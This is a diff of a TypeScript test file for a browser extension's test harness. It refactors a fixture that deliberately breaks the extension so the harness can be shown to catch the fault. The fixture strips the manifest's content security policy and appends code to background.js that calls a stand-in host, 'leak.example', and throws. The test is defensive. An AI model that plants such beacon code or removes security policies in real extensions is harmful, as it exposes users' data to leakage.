@@ -1,8 +1,6 @@
-import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { browserNames, builds, clickInside, emulate, inClosedShadow, Rig, textsInside, until } from './harness';
+import { browserNames, clickInside, emulate, inClosedShadow, Rig, textsInside, until } from './harness';
+import { altered } from './harness/altered';
 
 /** What both browsers call the extension's own interface. */
 declare const chrome: {
@@ -95,26 +93,22 @@ describe.each(browserNames)('the test harness in %s', (name) => {
 
 describe.each(browserNames)('a broken extension in %s', (name) => {
   let rig: Rig;
-  const folder = mkdtempSync(join(tmpdir(), 'planted-'));
   beforeAll(async () => {
-    cpSync(builds[name], folder, { recursive: true });
-    const manifest = JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8')) as Record<string, unknown>;
-    delete manifest['content_security_policy'];
-    writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest));
+    const lax = (manifest: string): string =>
+      JSON.stringify({ ...JSON.parse(manifest), content_security_policy: undefined });
     // In time for the harness to listen, and early enough for the test.
-    const late = (code: string) => `;setTimeout(() => { ${code} }, 1000);`;
-    appendFileSync(
-      join(folder, 'background.js'),
-      late(`fetch('https://leak.example/').catch(() => 0); throw new Error('planted')`),
-    );
-    appendFileSync(join(folder, 'prefilter.js'), late(`console.error('planted in the page')`));
-    rig = await Rig.open(name, { extension: folder });
+    const late = (code: string) => (text: string) => `${text};setTimeout(() => { ${code} }, 1000);`;
+    const leaks = late(`fetch('https://leak.example/').catch(() => 0); throw new Error('planted')`);
+    rig = await Rig.open(name, {
+      alter(folder) {
+        altered(['manifest.json'], lax)(folder);
+        altered(['background.js'], leaks)(folder);
+        altered(['prefilter.js'], late(`console.error('planted in the page')`))(folder);
+      },
+    });
     await rig.visit(page);
   });
-  afterAll(async () => {
-    await rig.close();
-    rmSync(folder, { recursive: true });
-  });
+  afterAll(() => rig.close());
 
   it('is found out: what it throws, what it complains of, what it asks for', async () => {
     const errors = await until(
